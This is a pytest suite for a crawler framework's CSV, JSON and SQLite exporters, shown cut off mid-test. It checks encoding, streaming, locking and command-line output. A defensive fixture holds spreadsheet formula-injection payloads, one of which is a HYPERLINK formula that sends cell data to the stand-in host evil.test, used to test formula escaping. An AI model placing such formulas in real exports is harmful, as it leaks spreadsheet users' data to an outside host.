"""The bundled exporters: values, streaming whole records, surviving a crash, and ``-o``."""

from __future__ import annotations

import asyncio
import csv
import datetime
import decimal
import fcntl
import html
import json
import os
import re
import resource
import shutil
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from aiohttp import web
from fwcrawl_plugins.exporters import (
    CsvExporter,
    JsonArrayExporter,
    JsonLinesExporter,
    SqliteExporter,
    sqlite,
)
from fwcrawl_plugins.exporters.csvfile import CsvOptions
from fwcrawl_plugins.exporters.sqlite import SqliteOptions
from fwcrawl_plugins.exporters.values import named

from framework import Exporter
from framework.cli import main
from framework.hooks.manager import make_plugin_manager
from framework.hooks.registry import Registry
from tests.conftest import Completed, Serve, fw_command, run_fw, write_project
from tests.disks import small_disk as mounted_disk

# ---------------------------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------------------------

ITEMS: list[dict[str, Any]] = [
    {
        "title": "肖申克的救赎",
        "rating": 9.7,
        "votes": 3_000_000,
        "top": True,
        "tags": ["剧情", "犯罪"],
        "meta": {"year": 1994, "langs": ["en", "中文"]},
        "note": None,
        "released": datetime.date(1994, 9, 10),
    },
    {
        "title": '霸王别姬 "Farewell", 1993',
        "rating": 9.6,
        "votes": 0,
        "top": False,
        "tags": [],
        "meta": {},
        "note": "多行\n文本",
        "released": datetime.datetime(1993, 1, 1, 12, 30),
    },
]
#: ITEMS as JSON shows them: dates become ISO 8601 text.
JSON_ITEMS: list[dict[str, Any]] = [
    {**ITEMS[0], "released": "1994-09-10"},
    {**ITEMS[1], "released": "1993-01-01T12:30:00"},
]


def _no_nan(name: str) -> Any:
    raise ValueError(f"not strict JSON: {name}")


def strict_json(text: str) -> Any:
    """Parse JSON as strict readers (jq, JavaScript) do: NaN and Infinity are errors."""
    return json.loads(text, parse_constant=_no_nan)


def export(exporter: Exporter, items: list[dict[str, Any]]) -> Path:
    """Run one exporter over ``items`` as the engine does; return the path written."""
    exporter.open()
    for item in items:
        exporter.write(item)
    exporter.close()
    return Path(exporter.path)


def read_jsonl(path: Path) -> list[Any]:
    """Read whole JSON lines strictly; a torn last line fails."""
    data = path.read_bytes()
    assert not data or data.endswith(b"\n"), f"torn last line: {data[-80:]!r}"
    return [strict_json(line) for line in data.decode("utf-8").splitlines()]


def read_json_array(path: Path, *, finished: bool = True) -> list[Any]:
    """Read a JSON array export; an unfinished one is closed with ``]`` first, as documented."""
    text = path.read_text(encoding="utf-8")
    value = strict_json(text if finished else text + "\n]")
    assert isinstance(value, list)
    return value


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    """Read every row, header included, as a spreadsheet would (cells of any size)."""
    limit = csv.field_size_limit(sys.maxsize)  # the default, 128 KB, is far too small
    try:
        with path.open(newline="", encoding="utf-8") as file:
            return list(csv.reader(file, delimiter=delimiter, strict=True))
    finally:
        csv.field_size_limit(limit)


def read_sqlite(path: Path, table: str = "items") -> list[dict[str, Any]]:
    """Read a table through a separate connection, without the key column."""
    with closing(sqlite3.connect(path)) as db:
        cursor = db.execute(f'SELECT * FROM "{table}" ORDER BY _rowid')
        names = [column[0] for column in cursor.description]
        return [
            {name: value for name, value in zip(names, row, strict=True) if name != "_rowid"}
            for row in cursor
        ]


def sqlite_columns(path: Path, table: str = "items") -> list[str]:
    with closing(sqlite3.connect(path)) as db:
        return [row[1] for row in db.execute(f'PRAGMA table_info("{table}")')]


# ---------------------------------------------------------------------------------------------
# JSON lines and JSON array
# ---------------------------------------------------------------------------------------------


def test_jsonl_writes_each_item_as_one_readable_line(tmp_path: Path) -> None:
    path = export(JsonLinesExporter(str(tmp_path / "items.jsonl")), ITEMS)
    assert read_jsonl(path) == JSON_ITEMS
    text = path.read_text(encoding="utf-8")
    assert len(text.splitlines()) == len(ITEMS)  # the newline inside a value is escaped
    assert "肖申克的救赎" in text  # UTF-8, not \u escapes


@pytest.mark.parametrize("count", [0, 1, 2])
def test_json_array_is_valid_json_for_any_number_of_items(tmp_path: Path, count: int) -> None:
    path = export(JsonArrayExporter(str(tmp_path / "items.json")), ITEMS[:count])
    assert read_json_array(path) == JSON_ITEMS[:count]


@pytest.mark.parametrize("exporter", [JsonLinesExporter, JsonArrayExporter])
def test_json_exporters_write_strict_json_for_awkward_values(
    tmp_path: Path, exporter: type[Exporter]
) -> None:
    item = {
        "nan": float("nan"),
        "inf": [float("-inf"), 1.5],
        "big": 2**70,
        "decimal": decimal.Decimal("0.10"),
        "set": {3},
        "tuple": (1, "a"),
        "bytes": b"\x00\xff",
        "time": datetime.time(8, 5),
        "broken": "\ud83d!",
    }
    path = export(exporter(str(tmp_path / f"x{exporter.extensions[0]}")), [item])
    records = read_jsonl(path) if exporter is JsonLinesExporter else read_json_array(path)
    # NaN and infinities have no JSON form: they become null as in the sqlite exporter.
    # A lone surrogate (a broken emoji from a JSON API) is kept, escaped, not a crash.
    assert records == [
        {
            "nan": None,
            "inf": [None, 1.5],
            "big": 2**70,
            "decimal": "0.10",
            "set": [3],
            "tuple": [1, "a"],
            "bytes": "AP8=",
            "time": "08:05:00",
            "broken": "\ud83d!",
        }
    ]


def test_jsonl_lines_survive_readers_that_split_on_unicode_line_breaks(tmp_path: Path) -> None:
    item = {"text": "a\u2028b\u2029c\x85d", "other": "中文"}
    path = export(JsonLinesExporter(str(tmp_path / "x.jsonl")), [item, item])
    text = path.read_text(encoding="utf-8")
    assert len(text.splitlines()) == 2  # str.splitlines breaks lines at these too
    assert [json.loads(line) for line in text.splitlines()] == [item, item]


def test_json_exporters_refuse_values_they_cannot_represent(tmp_path: Path) -> None:
    exporter = JsonLinesExporter(str(tmp_path / "x.jsonl"))
    exporter.open()
    with pytest.raises(TypeError, match="cannot export a value of type object"):
        exporter.write({"x": object()})
    exporter.close()
    assert (tmp_path / "x.jsonl").read_bytes() == b""  # nothing half-written


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------


def test_csv_writes_json_cells_empty_none_and_iso_dates(tmp_path: Path) -> None:
    path = export(CsvExporter(str(tmp_path / "items.csv")), ITEMS)
    assert read_csv(path) == [
        ["title", "rating", "votes", "top", "tags", "meta", "note", "released"],
        [
            "肖申克的救赎",
            "9.7",
            "3000000",
            "true",
            '["剧情","犯罪"]',
            '{"year":1994,"langs":["en","中文"]}',
            "",
            "1994-09-10",
        ],
        [
            '霸王别姬 "Farewell", 1993',
            "9.6",
            "0",
            "false",
            "[]",
            "{}",
            "多行\n文本",
            "1993-01-01T12:30:00",
        ],
    ]


def test_csv_fields_fix_the_columns_and_their_order(tmp_path: Path) -> None:
    options = CsvOptions(fields=("votes", "title", "absent"))
    path = export(CsvExporter(str(tmp_path / "items.csv"), options), ITEMS)
    assert read_csv(path) == [
        ["votes", "title", "absent"],
        ["3000000", "肖申克的救赎", ""],
        ["0", '霸王别姬 "Farewell", 1993', ""],
    ]


def test_csv_fields_header_is_written_before_any_item(tmp_path: Path) -> None:
    path = export(CsvExporter(str(tmp_path / "items.csv"), CsvOptions(fields=("url",))), [])
    assert read_csv(path) == [["url"]]


def test_csv_delimiter(tmp_path: Path) -> None:
    items = [{"a": "x;y", "b": "1,5"}]
    path = export(CsvExporter(str(tmp_path / "items.csv"), CsvOptions(delimiter=";")), items)
    assert path.read_bytes() == b'a;b\r\n"x;y";1,5\r\n'
    assert read_csv(path, ";") == [["a", "b"], ["x;y", "1,5"]]


HOSTILE = [
    {
        "=cmd": '=HYPERLINK("http://evil.test/?"&A1,"click")',
        "plus": "+1+2",
        "minus": "-2+3",
        "at": "@SUM(1)",
        "tab": "\t=1",
        "cr": "\r=1",
        "plain": "a=b",
        "number": -5,
    }
]


def test_csv_formulas_escape_defuses_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    options = CsvOptions(formulas="escape")
    path = export(CsvExporter(str(tmp_path / "items.csv"), options), HOSTILE)
    assert read_csv(path) == [
        ["'=cmd", "plus", "minus", "at", "tab", "cr", "plain", "number"],
        [
            '\'=HYPERLINK("http://evil.test/?"&A1,"click")',
            "'+1+2",
            "'-2+3",
            "'@SUM(1)",
            "'\t=1",
            "'\r=1",
            "a=b",
            "-5",
        ],
    ]


def test_csv_keeps_cells_as_scraped_by_default(tmp_path: Path) -> None:
    path = export(CsvExporter(str(tmp_path / "items.csv")), HOSTILE)
    assert read_csv(path)[1][:3] == ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+2", "-2+3"]


def test_csv_formulas_escape_appends_under_its_own_escaped_header(tmp_path: Path) -> None:
    options = CsvOptions(formulas="escape")
    path = export(CsvExporter(str(tmp_path / "items.csv"), options), [{"=k": "=1"}])
    export(CsvExporter(str(tmp_path / "items.csv"), options, append=True), [{"=k": "=2"}])
    assert read_csv(path) == [["'=k"], ["'=1"], ["'=2"]]


def test_csv_formulas_escape_reads_back_a_text_that_looks_escaped_as_it_was(
    tmp_path: Path,
) -> None:
    options = CsvOptions(formulas="escape")
    first = [{"'=k": "'=1", "''+": "'x"}]
    path = export(CsvExporter(str(tmp_path / "items.csv"), options), first)
    again = [{"'=k": "'=2", "''+": "'y"}]
    export(CsvExporter(str(tmp_path / "items.csv"), options, append=True), again)
    assert read_csv(path) == [["''=k", "'''+"], ["''=1", "'x"], ["''=2", "'y"]]


def test_csv_an_item_that_cannot_be_written_adds_no_column(tmp_path: Path) -> None:
    exporter = CsvExporter(str(tmp_path / "items.csv"))
    exporter.open()
    exporter.write({"id": 1})
    with pytest.raises(TypeError):
        exporter.write({"id": 2, "bad": complex(1, 2)})
    exporter.write({"id": 3})
    exporter.close()
    assert read_csv(Path(exporter.path)) == [["id"], ["1"], ["3"]]


@pytest.mark.parametrize("delimiter", ["\\", "u", "d", "8"])
def test_csv_a_lone_surrogate_is_quoted_as_written(tmp_path: Path, delimiter: str) -> None:
    options = CsvOptions(delimiter=delimiter)
    items = [{"k\ud800": "a\ud800b", "w": "W"}]
    path = export(CsvExporter(str(tmp_path / "items.csv"), options), items)
    assert read_csv(path, delimiter) == [["k\\ud800", "w"], ["a\\ud800b", "W"]]


def test_csv_refuses_to_append_with_another_delimiter(tmp_path: Path) -> None:
    path = export(CsvExporter(str(tmp_path / "items.csv")), [{"id": 1, "a": 2}])
    again = CsvExporter(str(path), CsvOptions(delimiter=";"), append=True)
    with pytest.raises(ValueError, match="its rows are delimited by ',', not ';': set delim"):
        again.open()
    assert read_csv(path) == [["id", "a"], ["1", "2"]]
    one = export(CsvExporter(str(tmp_path / "one.csv")), [{"id": 1}])
    export(CsvExporter(str(one), CsvOptions(delimiter=";"), append=True), [{"id": 2}])
    assert read_csv(one) == [["id"], ["1"], ["2"]]  # one column: no delimiter to differ
    header_only = export(CsvExporter(str(tmp_path / "h.csv"), CsvOptions(fields=("a", "b"))), [])
    with pytest.raises(ValueError, match="its rows are delimited by ',', not ';'"):
        CsvExporter(str(header_only), CsvOptions(delimiter=";"), append=True).open()
    for key, delimiter in (("a;b", ","), ("price, EUR", ";"), ("a|b", "\t")):
        options = CsvOptions(delimiter=delimiter)
        path = tmp_path / "key.csv"
        export(CsvExporter(str(path), options), [{key: "v1"}])
        export(CsvExporter(str(path), options, append=True), [{key: "v2"}])
        assert read_csv(path, delimiter) == [[key], ["v1"], ["v2"]]  # its own, appended to


def test_csv_a_key_with_a_lone_surrogate_keeps_its_column_when_appended_to(
    tmp_path: Path,
) -> None:
    path = export(CsvExporter(str(tmp_path / "items.csv")), [{"x\udc80y": 1}])
    export(CsvExporter(str(path), append=True), [{"x\udc80y": 2}])
    assert read_csv(path) == [["x\\udc80y"], ["1"], ["2"]]
    named = CsvOptions(fields=("x\udc80y", "名"))
    fields = export(CsvExporter(str(tmp_path / "fields.csv"), named), [{"x\udc80y": 1, "名": 2}])
    assert read_csv(fields) == [["x\\udc80y", "名"], ["1", "2"]]
    exporter = CsvExporter(str(tmp_path / "two.csv"))
    exporter.open()
    with pytest.raises(ValueError, match="two keys of this item are both the column"):
        exporter.write({"k\udc80": 1, "k\\udc80": 2})
    exporter.close()


def test_csv_late_key_gets_a_column_and_the_header_is_rewritten_at_close(tmp_path: Path) -> None:
    exporter = CsvExporter(str(tmp_path / "items.csv"))
    path = Path(exporter.path)
    exporter.open()
    exporter.write({"a": 1, "b": 2})
    exporter.write({"b": 3, "c": 'new,\r\n"q"'})
    exporter.write({"a": 4})
    # Until close, rows are appended as they come: the header still has the first columns.
    assert read_csv(path) == [["a", "b"], ["1", "2"], ["", "3", 'new,\r\n"q"'], ["4", "", ""]]
    exporter.close()
    assert read_csv(path) == [
        ["a", "b", "c"],
        ["1", "2", ""],
        ["", "3", 'new,\r\n"q"'],
        ["4", "", ""],
    ]
    assert list(tmp_path.iterdir()) == [path]  # no temporary file left behind


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_csv_escapes_quotes_line_breaks_and_delimiters(tmp_path: Path, delimiter: str) -> None:
    values = [
        'say "hi"',
        "a,b",
        "tab\there",
        "line\nbreak",
        "crlf\r\nbreak",
        "lone\rcr",
        " padded ",
        "",
        '"',
        '中文,\n"混合"',
    ]
    items = [{"n": i, "value": value} for i, value in enumerate(values)]
    path = export(CsvExporter(str(tmp_path / "items.csv"), CsvOptions(delimiter=delimiter)), items)
    rows = read_csv(path, delimiter)
    assert rows == [["n", "value"], *([str(i), v] for i, v in enumerate(values))]


def test_csv_first_item_without_keys_writes_one_header(tmp_path: Path) -> None:
    path = export(CsvExporter(str(tmp_path / "items.csv")), [{}, {"a": 1}, {"a": 2}])
    assert read_csv(path) == [["a"], [""], ["1"], ["2"]]


def test_csv_cells_for_other_values(tmp_path: Path) -> None:
    item = {
        "nan": float("nan"),
        "bytes": b"\x00\xff",
        "decimal": decimal.Decimal("2.50"),
        "set": {"x"},
        "broken": "\ud83d!",
        "big": 2**70,
    }
    path = export(CsvExporter(str(tmp_path / "items.csv")), [item])
    assert read_csv(path) == [list(item), ["", "AP8=", "2.50", '["x"]', "\\ud83d!", str(2**70)]]


# ---------------------------------------------------------------------------------------------
# SQLite
# ---------------------------------------------------------------------------------------------


def test_sqlite_stores_each_key_in_its_own_column(tmp_path: Path) -> None:
    path = export(SqliteExporter(str(tmp_path / "items.db")), ITEMS)
    assert sqlite_columns(path) == ["_rowid", *ITEMS[0]]
    assert read_sqlite(path) == [
        {
            "title": "肖申克的救赎",
            "rating": 9.7,
            "votes": 3_000_000,
            "top": 1,
            "tags": '["剧情","犯罪"]',
            "meta": '{"year":1994,"langs":["en","中文"]}',
            "note": None,
            "released": "1994-09-10",
        },
        {
            "title": '霸王别姬 "Farewell", 1993',
            "rating": 9.6,
            "votes": 0,
            "top": 0,
            "tags": "[]",
            "meta": "{}",
            "note": "多行\n文本",
            "released": "1993-01-01T12:30:00",
        },
    ]
    with closing(sqlite3.connect(path)) as db:  # numbers stay numbers, so SQL can use them
        assert db.execute("SELECT title FROM items WHERE top AND rating > 9").fetchall() == [
            ("肖申克的救赎",)
        ]
        assert db.execute("SELECT json_extract(tags, '$[1]') FROM items").fetchall() == [
            ("犯罪",),
            (None,),
        ]


def test_sqlite_adds_a_column_when_a_new_key_appears(tmp_path: Path) -> None:
    exporter = SqliteExporter(str(tmp_path / "items.db"))
    path = Path(exporter.path)
    exporter.open()
    exporter.write({"a": 1})
    assert sqlite_columns(path) == ["_rowid", "a"]
    exporter.write({"b": [1, 2], "a": None})
    assert sqlite_columns(path) == ["_rowid", "a", "b"]
    exporter.close()
    assert read_sqlite(path) == [{"a": 1, "b": None}, {"a": None, "b": "[1,2]"}]


def test_sqlite_an_item_with_too_many_keys_leaves_no_column_for_the_next_to_trip_on(
    tmp_path: Path,
) -> None:
    exporter = SqliteExporter(str(tmp_path / "items.db"))
    path = Path(exporter.path)
    exporter.open()
    exporter.write({"a": 1})
    with pytest.raises(sqlite3.OperationalError, match="too many columns"):
        exporter.write({f"k{n}": n for n in range(2_100)})  # past SQLite's 2,000 columns
    assert sqlite_columns(path) == ["_rowid", "a"]
    exporter.write({"a": 2, "k5": 5})  # a key of the failed item, for the first time
    exporter.close()
    assert read_sqlite(path) == [{"a": 1, "k5": None}, {"a": 2, "k5": 5}]


def test_sqlite_keeps_awkward_items(tmp_path: Path) -> None:
    items: list[dict[str, Any]] = [
        {"Name": "upper"},
        {"name": "lower"},  # SQLite column names ignore case
        {},
        {"_rowid": "an item key, not the table's key"},
        {
            "big": 2**70,
            "blob": b"\x00\xff",
            "decimal": decimal.Decimal("0.10"),
            "nan": float("nan"),
            "broken": "\ud83d!",
            'quo"te': "ok",
        },
    ]
    path = export(SqliteExporter(str(tmp_path / "items.db")), items)
    rows = read_sqlite(path)
    assert len(rows) == len(items)
    assert [row["Name"] for row in rows] == ["upper", None, None, None, None]
    assert [row["name_2"] for row in rows] == [None, "lower", None, None, None]
    assert rows[3]["_rowid_2"] == "an item key, not the table's key"
    assert {key: rows[4][key] for key in items[4]} == {
        "big": str(2**70),
        "blob": b"\x00\xff",
        "decimal": "0.10",
        "nan": None,
        "broken": "\\ud83d!",
        'quo"te': "ok",
    }


def test_sqlite_table_option_and_replace_by_default(tmp_path: Path) -> None:
    path = tmp_path / "items.db"
    export(SqliteExporter(str(path), SqliteOptions(table="my movies")), [{"a": 1}, {"a": 2}])
    export(SqliteExporter(str(path), SqliteOptions(table="my movies")), [{"b": 3}])
    assert read_sqlite(path, "my movies") == [{"b": 3}]
    assert sqlite_columns(path, "items") == []  # no default table was created


def test_sqlite_append_keeps_earlier_rows_and_columns(tmp_path: Path) -> None:
    path = tmp_path / "items.db"
    append = SqliteOptions(if_exists="append")
    export(SqliteExporter(str(path), append), [{"a": 1}])
    export(SqliteExporter(str(path), append), [{"a": 2, "b": "x"}])
    assert read_sqlite(path) == [{"a": 1, "b": None}, {"a": 2, "b": "x"}]


def test_sqlite_refuses_a_file_that_is_not_a_database_and_leaves_it_alone(tmp_path: Path) -> None:
    path = tmp_path / "notes.db"
    path.write_text("my notes\n" * 100)
    with pytest.raises(sqlite3.DatabaseError, match="not a database"):
        SqliteExporter(str(path)).open()
    assert path.read_text() == "my notes\n" * 100


def test_sqlite_replace_leaves_other_tables_alone(tmp_path: Path) -> None:
    path = tmp_path / "items.db"
    export(SqliteExporter(str(path), SqliteOptions(table="other")), [{"keep": 1}])
    export(SqliteExporter(str(path)), [{"a": 1}])
    export(SqliteExporter(str(path)), [{"a": 2}])
    assert read_sqlite(path, "other") == [{"keep": 1}]
    assert read_sqlite(path) == [{"a": 2}]


def test_sqlite_a_second_writer_is_refused_and_drops_nothing(tmp_path: Path) -> None:
    # SQLite locks a statement, not a run: a second run dropped the first one's table.
    path = str(tmp_path / "items.db")
    first = SqliteExporter(path)
    first.open()
    first.write({"n": 1})
    with pytest.raises(OSError, match="another fw process is writing it"):
        SqliteExporter(path).open()
    first.write({"n": 2})
    first.close()
    assert read_sqlite(Path(path)) == [{"n": 1}, {"n": 2}]
    export(SqliteExporter(path), [{"n": 3}])  # let go once closed
    assert read_sqlite(Path(path)) == [{"n": 3}]


def test_sqlite_a_database_another_program_locks_fails_the_write_not_the_item(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # "database is locked" was an item_error: the page was acknowledged, its item lost.
    monkeypatch.setattr("fwcrawl_plugins.exporters.sqlite._PATIENCE", 0.05)
    path = str(tmp_path / "items.db")
    exporter = SqliteExporter(path)
    exporter.open()
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # a program holding the write lock
    try:
        with pytest.raises(OSError, match="another program holds the database locked") as raised:
            exporter.write({"n": 1})
        assert raised.value.filename == path
    finally:
        other.execute("ROLLBACK")
        other.close()
    exporter.write({"n": 2})
    exporter.close()
    assert read_sqlite(Path(path)) == [{"n": 2}]


@pytest.mark.parametrize(
    ("name", "exporter"),
    [
        ("x.jsonl", JsonLinesExporter),
        ("x.jl", JsonLinesExporter),
        ("x.ndjson", JsonLinesExporter),
        ("X.JSON", JsonArrayExporter),
        ("x.csv", CsvExporter),
        ("x.db", SqliteExporter),
        ("x.sqlite", SqliteExporter),
        ("x.sqlite3", SqliteExporter),
    ],
)
def test_the_extension_picks_the_exporter(name: str, exporter: type[Exporter]) -> None:
    registry = Registry.collect(make_plugin_manager())
    assert registry.exporters_for_extension(f"/out/{name}") == [exporter]


# ---------------------------------------------------------------------------------------------
# Keys: named alike in every format, one value per name
# ---------------------------------------------------------------------------------------------

EXPORTERS = [JsonLinesExporter, JsonArrayExporter, CsvExporter, SqliteExporter]


def written(path: Path) -> list[dict[str, Any]]:
    """Read the records of a finished export of any format, as mappings."""
    if path.suffix == ".jsonl":
        return read_jsonl(path)
    if path.suffix == ".json":
        return read_json_array(path)
    if path.suffix == ".csv":
        header, *rows = read_csv(path)
        return [dict(zip(header, row, strict=True)) for row in rows]
    return read_sqlite(path)


@pytest.mark.parametrize("exporter", EXPORTERS)
def test_keys_that_are_not_text_are_named_as_json_names_them(
    tmp_path: Path, exporter: type[Exporter]
) -> None:
    item: dict[Any, str] = {None: "n", True: "t", 2.5: "f", 7: "i", "s": "s"}
    path = export(exporter(str(tmp_path / f"items{exporter.extensions[0]}")), [item])
    assert written(path) == [{"null": "n", "true": "t", "2.5": "f", "7": "i", "s": "s"}]


@pytest.mark.parametrize("exporter", EXPORTERS)
def test_an_item_with_two_keys_of_one_name_is_refused_whole(
    tmp_path: Path, exporter: type[Exporter]
) -> None:
    opened = exporter(str(tmp_path / f"items{exporter.extensions[0]}"))
    opened.open()
    clash: dict[Any, str] = {1: "int", "1": "str"}  # a file keeps one value per name
    with pytest.raises(ValueError, match="keys 1 and '1' are both '1' once written"):
        opened.write(clash)
    with pytest.raises(ValueError, match="keys 1 and '1' are both '1' once written"):
        opened.write({"meta": [{"at": clash}]})  # at any depth
    shared: list[Any] = [1]
    for _ in range(64):  # each list twice in the next: 2**64 paths, walked once each
        shared = [shared, shared]
    named({"shared": shared, 2: "named"})
    looped: list[Any] = []
    looped += [looped, looped]
    assert named({"a": looped})["a"] is looped  # json says what it makes of a cycle
    opened.write({"1": "alone"})
    opened.close()
    assert written(Path(opened.path)) == [{"1": "alone"}]


def test_sqlite_refuses_two_keys_its_escapes_make_one_column(tmp_path: Path) -> None:
    opened = SqliteExporter(str(tmp_path / "items.db"))
    opened.open()
    with pytest.raises(ValueError, match="both the column"):
        opened.write({"k\udc80": 1, "k\\udc80": 2})  # a lone surrogate is kept escaped
    opened.close()
    assert read_sqlite(Path(opened.path)) == []


# ---------------------------------------------------------------------------------------------
# Streaming: every write is on disk, whole, before the next one
# ---------------------------------------------------------------------------------------------

STREAMED = [{"n": i, "title": f'第{i}页, "q"\nx', "tags": ["a", i]} for i in range(5)]


def _read_unfinished(exporter: Exporter) -> list[dict[str, Any]]:
    """Read what an open exporter has written so far, from a separate handle."""
    path = Path(exporter.path)
    if isinstance(exporter, JsonLinesExporter):
        return read_jsonl(path)
    if isinstance(exporter, JsonArrayExporter):
        return read_json_array(path, finished=False)
    if isinstance(exporter, CsvExporter):
        cells = read_csv(path)
        assert not cells or cells[0] == ["n", "title", "tags"]
        return [
            {"n": int(n), "title": title, "tags": json.loads(tags)} for n, title, tags in cells[1:]
        ]
    return [{**row, "tags": json.loads(row["tags"])} for row in read_sqlite(path)]


@pytest.mark.parametrize(
    "exporter", [JsonLinesExporter, JsonArrayExporter, CsvExporter, SqliteExporter]
)
def test_each_item_is_on_disk_whole_as_soon_as_it_is_written(
    tmp_path: Path, exporter: type[Exporter]
) -> None:
    opened = exporter(str(tmp_path / f"items{exporter.extensions[0]}"))
    opened.open()
    assert _read_unfinished(opened) == []
    for count in range(1, len(STREAMED) + 1):
        opened.write(STREAMED[count - 1])
        assert _read_unfinished(opened) == STREAMED[:count]
    opened.close()


# ---------------------------------------------------------------------------------------------
# fw run as a user would: a spider plugin and a loopback site
# ---------------------------------------------------------------------------------------------

SPIDER = """
from framework import Spider, hookimpl

class Pages(Spider):
    name = "pages"

    async def parse(self, response):
        yield {"url": response.url, "title": response.css("title::text").get(),
               "tags": response.css("li::text").getall(), "missing": None, "ok": True}
        for href in response.css("a::attr(href)").getall():
            yield response.follow(href)

@hookimpl
def register_spiders(register):
    register(Pages)
"""


def pages_project(directory: Path, base: str, extra: str = "") -> Path:
    """Write the spider plugin and a project crawling ``base`` into ``directory``."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "pages.py").write_text(SPIDER, encoding="utf-8")
    return write_project(
        directory,
        f"""
        spider: pages
        start_urls: [{base}/]
        plugins: [./pages.py]
        concurrency: {{total: 4, per_domain: 4}}
        {extra}
        """,
    )


def page(n: int, *links: str) -> web.Response:
    anchors = "".join(f'<a href="{href}">x</a>' for href in links)
    return web.Response(
        text=f'<html><head><title>第{n}页, "引号"</title></head><body>'
        f"<ul><li>标签{n}</li><li>b,c</li></ul>{anchors}</body></html>",
        content_type="text/html",
    )


def small_site(pages: int, held: asyncio.Event | None = None) -> web.Application:
    """``/`` links to ``/1`` .. ``/{pages - 1}``; each page is one item. Pages past ``/`` are
    answered only once ``held`` is set, if given."""

    async def handler(request: web.Request) -> web.Response:
        n = int(request.match_info["n"] or 0)
        if n and held is not None:
            await held.wait()
        return page(n, *(f"/{k}" for k in range(1, pages))) if n == 0 else page(n)

    app = web.Application()
    app.router.add_get("/{n:[0-9]*}", handler)
    return app


def by_url(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return sorted(records, key=lambda record: str(record["url"]))


async def test_o_writes_every_format_with_the_same_items(tmp_path: Path, serve: Serve) -> None:
    base = await serve(small_site(4))
    project = pages_project(tmp_path, base)
    done = await run_fw(
        "run",
        str(project),
        "-o",
        "a.jsonl",
        "-o",
        "b.json",
        "-o",
        "c.csv",
        "-o",
        "d.db",
        "-o",
        "e.sqlite",
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    expected = [
        {
            "url": f"{base}/{n or ''}",
            "title": f'第{n}页, "引号"',
            "tags": [f"标签{n}", "b,c"],
            "missing": None,
            "ok": True,
        }
        for n in range(4)
    ]
    assert by_url(read_jsonl(tmp_path / "a.jsonl")) == expected
    assert by_url(read_json_array(tmp_path / "b.json")) == expected
    header, *rows = read_csv(tmp_path / "c.csv")
    assert header == ["url", "title", "tags", "missing", "ok"]
    assert (
        by_url(
            [
                {
                    **dict(zip(header, row, strict=True)),
                    "tags": json.loads(row[2]),
                    "missing": None,
                    "ok": row[4] == "true",
                }
                for row in rows
            ]
        )
        == expected
    )
    assert [row[3:] for row in rows] == [["", "true"]] * 4
    for db in ("d.db", "e.sqlite"):
        stored = [
            {**row, "tags": json.loads(row["tags"]), "ok": bool(row["ok"])}
            for row in read_sqlite(tmp_path / db)
        ]
        assert by_url(stored) == expected
    # The five files hold the items in the same order, the order they were scraped in.
    order = [item["url"] for item in read_jsonl(tmp_path / "a.jsonl")]
    assert [row[0] for row in rows] == order
    assert [row["url"] for row in read_sqlite(tmp_path / "d.db")] == order


async def test_o_dash_streams_json_lines_to_stdout_and_nothing_else(
    tmp_path: Path, serve: Serve
) -> None:
    base = await serve(small_site(3))
    done = await run_fw("run", str(pages_project(tmp_path, base)), "-o", "-", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert sorted(strict_json(line)["url"] for line in lines) == [
        f"{base}/",
        f"{base}/1",
        f"{base}/2",
    ]
    assert "3 pages" in done.stderr and "3 items" in done.stderr  # the summary goes to stderr
    assert "plugins:" in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pages.py", "project.yaml"]


async def test_o_creates_missing_folders(tmp_path: Path, serve: Serve) -> None:
    base = await serve(small_site(2))
    done = await run_fw(
        "run", str(pages_project(tmp_path, base)), "-o", "new/deeper/x.csv", cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    assert len(read_csv(tmp_path / "new/deeper/x.csv")) == 3


async def test_project_file_exporters_write_relative_to_the_project_file(
    tmp_path: Path, serve: Serve
) -> None:
    base = await serve(small_site(3))
    project = pages_project(
        tmp_path / "project", base, "exporters: [{format: csv, path: out/x.csv, fields: [url]}]"
    )
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    done = await run_fw("run", str(project), cwd=elsewhere)
    assert done.returncode == 0, done.stderr
    header, *rows = read_csv(tmp_path / "project/out/x.csv")
    assert header == ["url"]
    assert sorted(rows) == [[f"{base}/"], [f"{base}/1"], [f"{base}/2"]]
    assert list(elsewhere.iterdir()) == []


async def test_o_with_an_unknown_extension_is_a_usage_error(tmp_path: Path) -> None:
    project = pages_project(tmp_path, "http://127.0.0.1:9")
    done = await run_fw("run", str(project), "-o", "out.xml", cwd=tmp_path)
    assert done.returncode == 2
    error = done.stderr.strip()
    assert error.startswith("Error: ") and "\n" not in error, done.stderr
    assert str(tmp_path / "out.xml") in error
    assert {".jsonl", ".json", ".csv", ".db", ".sqlite"} <= set(re.findall(r"\.\w+", error))
    assert done.stdout == ""
    assert not (tmp_path / "out.xml").exists()


async def test_a_typo_in_an_exporter_option_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "pages.py").write_text(SPIDER, encoding="utf-8")
    project = write_project(
        tmp_path,
        """
        spider: pages
        start_urls: [http://127.0.0.1:9/]
        plugins: [./pages.py]
        exporters:
          - format: csv
            path: out/x.csv
            delimter: ";"
        """,
    )
    done = await run_fw("run", str(project), cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr == (
        f"Error: {project}:7: exporters[0].delimter: unknown key (did you mean 'delimiter'?)\n"
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("fmt", "option", "message"),
    [
        (
            "jsonl",
            "indent: 2",
